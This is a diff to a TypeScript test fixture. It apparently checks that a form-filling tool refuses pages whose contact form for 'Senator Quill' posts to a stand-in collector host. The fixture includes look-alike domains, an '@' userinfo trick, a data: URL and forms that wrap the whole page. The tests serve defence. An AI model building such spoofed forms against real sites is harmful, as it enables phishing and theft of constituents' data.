@@ -1,4 +1,4 @@
-import { form, HOST, type HostilePage, PAGE, page } from './build-page';
+import { form, HONEST, HOST, type HostilePage, PAGE, page } from './build-page';
 
 const EVIL = 'https://collect.example/take';
 
@@ -117,6 +117,14 @@ export const ELSEWHERE: readonly HostilePage[] = [
   ),
   elsewhere('another port’s look-alike', 'action="https://www.quill.senate.gov.collect.example:443/" method="post"'),
   elsewhere('a name before an @', 'action="https://www.quill.senate.gov@collect.example/" method="post"'),
+  ...['header', 'footer', 'aside'].map((part) => ({
+    name: `sent elsewhere: a form round the whole page, its boxes in the ${part}`,
+    url: PAGE,
+    html: `<!doctype html><title>Contact Senator Quill</title><form action="${EVIL}" method="post"><main><h1>Contact Senator Quill</h1></main>
+      <${part === 'aside' ? 'aside' : `div class="${part}"`}>${HONEST}<button type="submit">Send</button></${part === 'aside' ? 'aside' : 'div'}></form>`,
+    expect: 'nothing' as const,
+    because: 'the form would not go to the House or the Senate',
+  })),
   elsewhere('data address', 'action="data:text/html,x" method="post"'),
 ];
 
